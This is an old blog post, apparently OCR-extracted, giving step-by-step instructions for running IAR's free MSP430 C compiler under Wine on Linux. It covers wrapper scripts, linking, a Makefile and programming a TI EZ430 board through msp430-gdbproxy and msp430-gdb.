Friday, November 30, 2007

TI EZ430 in Linux with IAR Kickstart

by Travis Goodspeed [travis at]
at the Extreme Measurement Communications Center
of the Oak Ridge National Laboratory

What follows are instructions for running the free version of IAR's C compiler for the MSP430 with Texas Instruments' EZ430 development tool in Linux under Wine. This will not work for Mac OS X until msp430-gdbproxy is made available for that platform. Also, this might not work with the full version of the compiler.

These instructions assume that you've installed wine, mspgcc, and msp430-gdbproxy. The assumption is also made that you've purchased theEZ430-F2013 development tool from Texas Instruments.

IAR Embedded Workbench

First, download from the EZ430-F2013 page. Unzip it to get FET_R510.exe. Running wine FET_R510.exe installs the compiler to your C: drive under wine.

Next, you must find the executable and run it.

karen% find ~/.wine/drive_c -name icc\*.exe
/home/travis/.wine/drive_c/Program Files/IAR Systems/Embedded Workbench 4.0/430/bin/icc430.exe
karen% wine "C:\Program Files\IAR Systems\Embedded Workbench 4.0\430\bin\icc430.exe"
IAR MSP430 C/C++ Compiler V4.09A/W32 [Kickstart]
Copyright 1996-2007 IAR Systems. All rights reserved.

Available command line options:
'Plain' char is treated as signed char
--core{430|430X}
The processor core
430 (default)
--data_model {small|medium|large}
Select data model (only for 430X core)
small Small model
16 bit registers. __data16 default. (default)
medium Medium model
20 bit registers. __data16 default. __data20 allowed.
large Large model
20 bit registers. __data20 default. __data16 allowed.
-r Insert debug info in object file
--dependencies=[i][m] file|directory
List file dependencies
i Include filename only (default)
m Makefile style
--diagnostics_tables file|directory
Dump diagnostic message tables to file
--diag_error tag,tag,...
Treat the list of tags as error diagnostics
--diag_remark tag,tag,...
Treat the list of tags as remark diagnostics
--diag_suppress tag,tag,...
Suppress the list of tags as diagnostics
--diag_warning tag,tag,...
Treat the list of tags as warning diagnostics
Discard unused public functions and variables (experimental)
--dlib_config pathname
Specify DLib library configuration file
--double {32|64}
The size of the double floating point type
32 32 bits (default)
64 64 bits
--ec++ Embedded C++
--eec++ Extended EC++ (EC++ with templates/namespaces/mutable/casts)
Enable multibyte support
--error_limit limit
Stop after this many errors (0 = no limit)Adds include file context to diagnostics
Make a library module
--lock_r4 Exclude register R4 from use by the compiler
--lock_r5 Exclude register R5 from use by the compiler
--mfc Enable multiple file compilation (experimental)
Enable IAR migration preprocessor extensions
--misrac Enable MISRA C diagnostics (not available)
Enableverbose MISRA C messages (not available)
--module_name name
Set module name
Disable code motion
--no_cse Disable common sub-expression elimination
--no_fragments Do not generate section fragments
--no_inline Disable function inlining
Strip path from __FILE__ and __BASE_FILE__ macros
--no_tbaa Disable type based alias analysis
Don't use typedefs when printing types
--no_unroll Disable loop unrolling
--no_warnings Disable generation of warnings
Don't wrap long lines in diagnostic messages
--omit_types Omit function/variable type info inobject output
--only_stdout Use stdout only (no console output on stderr)
--output file|path
-o file|path Specify object file
--pic Generate position independent code
--preinclude filename
Include file before normal source
--preprocess=[c][n][l] file|directory
Preprocessor output
c Include comments
n Preprocess only
l Include #line directives
--public_equ symbol[=value]
Define public assembler symbol (EQU)
Reduce usage of stack at the cost of larger and slower code
--regvar_r4 Allow register R4 to be used as a global register variable
--regvar_r5 Allow register R5 to be used as a global register variable
--remarks Enable generation of remarks
Require prototypes for all called or public functions
--save_reg20 Save 20-bit registers in interrupt functions
--silent Silent operation
--strict_ansi Strict ANSI rules
Warnings affect exit codeAll warnings are errors
-D symbol[=value]
Define macro (same as #define symbol [value])
-e Enable IAR C/C++ language extensions
-f file Read command line options from file
-I directory Add #include search directory
-l[c|C|D|E|a|A|b|B][N][H] file|directory
Output list file
c C source listing
C with assembly code
D with pure assembly code
E with non-sequential assembly code
a Assembler file
A with C source
b Basic assembler file
B with C source
N Don't include diagnostics
H Include headerfile source lines
Select level of optimization:
n No optimizations
l Low optimizations (default)
m Medium optimizations
h High optimizations
hz High optimizations, tuned for small code size
hs High optimizations, tuned for high speed
(-O without argument) The same setting as -Oh
-s{0-9} Optimize for speed:
0-2 Debug
3 Low4-6 Medium
7-9 High
-z{0-9} Optimize for size:
0-2 Debug
3 Low (default)
4-6 Medium
7-9 High

The usage information will be valuable, but is too long to scroll through. Pipe it to a textfile for later reference. Also, make some symlinks to more easily get at include files and the documentation:

karen% sudo ln -s /home/travis/.wine/drive_c/Program\ Files/IAR\ Systems/Embedded\Workbench\ 4.0 /opt/IAR
karen% ls /opt/IAR/430/doc/
EW430_AssemblerReference.pdf HelpMISRAC.chm embOS_IAR_plugin.pdf
EW430_CompilerReference.pdf IAR_Systems.jpg ew430.htm
EW430_MigrationGuide.pdf MSP-FET430 Users Guide.pdf htm.gif
EW430_UserGuide.pdf a430.htm icc430.htm
EW_MisraCReference.pdf a430_msg.htm icc430_msg.htm
Help430Compiler.chm appnotes migration.htm
Help430Contents.ENU.chm clib.pdf pdf.gif
Help430IDE1.chm cs430.htm readme.htm
Help430IDE2.chm embOSRelease.htm uC-OS-II-KA-CSPY-UserGuide.pdf

Make scripts for both the compiler and the assembler. I'm uninterested in the IDE.

wine "C:\Program Files\IAR Systems\Embedded Workbench 4.0\430\bin\a430.exe" $*

wine "C:\Program Files\IAR Systems\Embedded Workbench 4.0\430\bin\icc430.exe" $*

The compiler's options are very different from those of GCC, and you must remember (or update your script) to include the IAR include directory if you intend to use its headers. A test compile of the LED blinker from follows.

karen% icc430 -I "Z:\opt\IAR\430\inc" msp430x20x3_1.c --output blink.exe

IAR MSP430 C/C++ Compiler V4.09A/W32 [Kickstart]
Copyright 1996-2007 IAR Systems. All rights reserved.

34 bytes of CODE memory
0 bytes of DATA memory (+ 4 bytes shared)

Errors: none
Warnings: none

Now that the compiler is working, you'll need a linker. I use the following script:

opts="-f Z:\opt\IAR\430\config\lnk430F2013.xcl -Fintel-standard Z:\opt\IAR\430\LIB\CLIB\cl430f.r43 -s __program_start "
xlink="C:\Program Files\IAR Systems\Embedded Workbench4.0\common\bin\xlink.exe"
wine "$xlink" $* $opts

msp430-objcopy aout.a43 aout.exe

The format switch, -Fintel-standard, makes the output file in the ihex format, one which msp430-objcopy can handle. This will let us program the board using msp430-gdb, so the GNU tools may be used to load the executable. Also note that you'll need to uncomment lines 76 and 77 of /opt/IAR/430/config/lnk430F2013.xcl to define the stack and heap sizes. This script is called as xlink msp430x20x3_1.r43.

The following is a functional, if inelegant, Makefile:


all: $(ALL)

msp430x20x3_1.r43: msp430x20x3_1.c
icc430 -I "Z:\opt\IAR\430\inc" msp430x20x3_1.c
msp430x20x3_1.exe: msp430x20x3_1.r43
xlink msp430x20x3_1.r43
cp aout.exe msp430x20x3_1.exe


Assuming that msp430-gdb and the USB-FET drivers have been properly installed, the GDB server can be loaded as

karen% msp430-gdbproxy msp430 --spy-bi-wire /dev/ttyUSB0Remote proxy for GDB, v0.7.1,Copyright (C) 1999 Quality Quorum Inc.
MSP430 adaption Copyright (C) 2002 Chris Liechti and Steve Underwood

GDBproxy comes with ABSOLUTELY NO WARRANTY; for details
use `--warranty' option. This is Open Source software. You are
welcome to redistribute it under certain conditions. Use the
'--copying' option for details.

debug: MSP430_Initialize()
debug: MSP430_Configure()
debug: MSP430_VCC(3000)
debug: MSP430_Identify()
info: msp430: Target device is a 'MSP430F20x3' (type 52)
debug: MSP430_Configure()
notice: msp430-gdbproxy: waiting on TCP port 2000

Your ~/.gdbinit file should be

set remoteaddresssize 16
set remotetimeout 999999
target remote localhost:2000
monitor interface spy-bi-wiremsp430-gdb runs with no options. Use load foo.exe to load an executable that has been made by msp430-objcopy.

karen% msp430-gdb
GNU gdb 6.0
Copyright 2003 Free Software Foundation, Inc.
GDB is free software, covered by the GNU General Public License, and you are
welcome to change it and/or distribute copies of it under certain conditions.
Type "show copying" to see the conditions.
There is absolutely no warranty for GDB. Type "show warranty" for details.
This GDB was configured as "--host=i686-pc-linux-gnu --target=msp430".notice: msp430-gdbproxy: connected
debug: MSP430_Registers(READ)
0x0000f800 in ?? ()(gdb) load aout.exe
Loading section .sec1, size 0x38 lma 0xf800
debug: MSP430_Memory(WRITE)
Loading section .sec2, size 0x2 lma 0xfffe
debug: MSP430_Memory(WRITE)
Start address 0xf800, load size 58
Transfer rate: 464 bits in <1>

Note that without "monitor interface spy-bi-wire" in .gdbinit and "--spy-bi-wire" to msp430-gdbproxy, load will still work but many debugging functions will not. Also note that the run command seems to have issues with spy-bi-wire; use continue instead.

You should now be able to play around with the MSP430. Grab the msp430f2013 datasheet and family guide if you'll be doing anything fancy.

Monday, September 24, 2007

ToorCon 9 Presentation

